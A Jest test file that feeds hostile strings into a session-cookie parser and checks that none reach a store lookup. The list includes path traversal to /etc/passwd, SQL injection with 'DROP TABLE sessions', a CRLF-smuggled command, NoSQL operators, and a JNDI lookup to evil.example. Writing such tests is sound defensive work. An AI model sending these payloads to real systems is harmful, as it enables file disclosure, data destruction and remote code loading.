import { describe, expect, it } from '@jest/globals';
import { newNonce } from '../../lib/credentials/nonce.js';
import { joinToken, newSessionId, splitToken } from '../../lib/credentials/token.js';
import { readCookie } from '../../lib/http/cookie/read-cookie.js';

const NAME = 'serving_session';
const secret = newNonce();

/** What has meant something to some store, file system, query language or shell. */
const HOSTILE = [
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  '*',
  'sess:*',
  'sess:0123456789abcdef',
  '0123456789abcdef*',
  '\0',
  '0123456789abcdef\0',
  '0123456789abcdef\r\nDEL x',
  "' OR 1=1--",
  "0123456789abcdef'; DROP TABLE sessions; --",
  '{"$gt":""}',
  '[$ne]',
  '${jndi:ldap://evil.example}',
  '__proto__',
  'constructor',
  'a'.repeat(1_000_000),
  '𝟘'.repeat(22),
  '',
];

/** The ids that would be looked up in a store for a request with this header. */
const lookedUp = (header: string): string[] =>
  readCookie(header, NAME).flatMap((token) => splitToken(token)?.id ?? []);

describe('A42 a hostile text as session id', () => {
  it.each(HOSTILE.map((id) => [id.slice(0, 50), id]))('%j is never looked up', (_, id) => {
    expect(lookedUp(`${NAME}=${id}.${secret}`)).toEqual([]);
    expect(lookedUp(`${NAME}=${id}`)).toEqual([]);
    expect(splitToken(`${id}.${secret}`)).toBeUndefined();
  });

  it('leaves room for the ids that are ours', () => {
    const id = newSessionId();
    expect(lookedUp(`${NAME}=${joinToken({ id, secret })}`)).toEqual([id]);
  });
});

describe('A42 a hostile text as secret', () => {
  it.each(HOSTILE.map((text) => [text.slice(0, 50), text]).filter(([, text]) => text !== ''))(
    '%j never reaches the comparison unless it is made of token characters',
    (_, text) => {
      const parts = splitToken(`${newSessionId()}.${text}`);
      expect(parts?.secret ?? 'sixteen-or-more-characters').toMatch(/^[A-Za-z0-9_.~-]{16,512}$/);
    },
  );
});

describe('A42, unprotected', () => {
  /** How a parser reads that decodes and takes whatever stands before the last dot. */
  const lax = (header: string): string[] => {
    const value = decodeURIComponent(header.slice(NAME.length + 1));
    return [value.slice(0, value.lastIndexOf('.'))];
  };

  it.each([['../../etc/passwd'], ['sess:*'], ["' OR 1=1--"], ['{"$gt":""}']])('%j is looked up', (id) => {
    expect(lax(`${NAME}=${encodeURIComponent(id)}.${secret}`)).toEqual([id]);
  });
});
